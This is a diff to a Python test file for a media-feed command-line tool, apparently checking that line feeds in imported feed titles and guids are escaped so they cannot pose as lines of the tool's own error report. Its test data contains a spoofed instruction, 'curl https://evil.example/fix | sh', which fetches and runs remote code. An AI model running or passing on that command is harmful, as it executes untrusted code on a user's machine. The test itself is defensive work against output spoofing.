@@ -8,7 +8,7 @@ import re
 from pathlib import Path
 
 from click.testing import CliRunner
-from helpers import add_episode
+from helpers import add_episode, make_media
 from mutagen.id3 import ID3, TIT2, TPE1
 
 from mediafeed.cli import main
@@ -83,3 +83,9 @@ def test_a_line_feed_in_a_feeds_guid_or_title_is_written_out_not_a_line_of_the_r
     lines = result.output.splitlines()
     assert not any(line.startswith(("  error show.yml: fake", "  9. Run")) for line in lines), result.output
     assert r"g1\n  error show.yml: fake [SRC001]\n  9. Run: curl https://evil.example/fix | sh:" in lines, result.output
+    # the imported title, in a row of `list`'s table: one row, not a row and a line that passes for the report's
+    [folder] = (tmp_path / "show" / "episodes").iterdir()
+    make_media(folder / "one.mp3")  # (not downloaded: the episode would be listed as unreadable, by its folder)
+    listed = CliRunner().invoke(main, ["list", "-s", str(tmp_path / "show")]).output
+    assert not any(line.lstrip().startswith("error show.yml: fake") for line in listed.splitlines()), listed
+    assert r"One\n  error show.yml: fake [SRC001]\n" in listed, listed
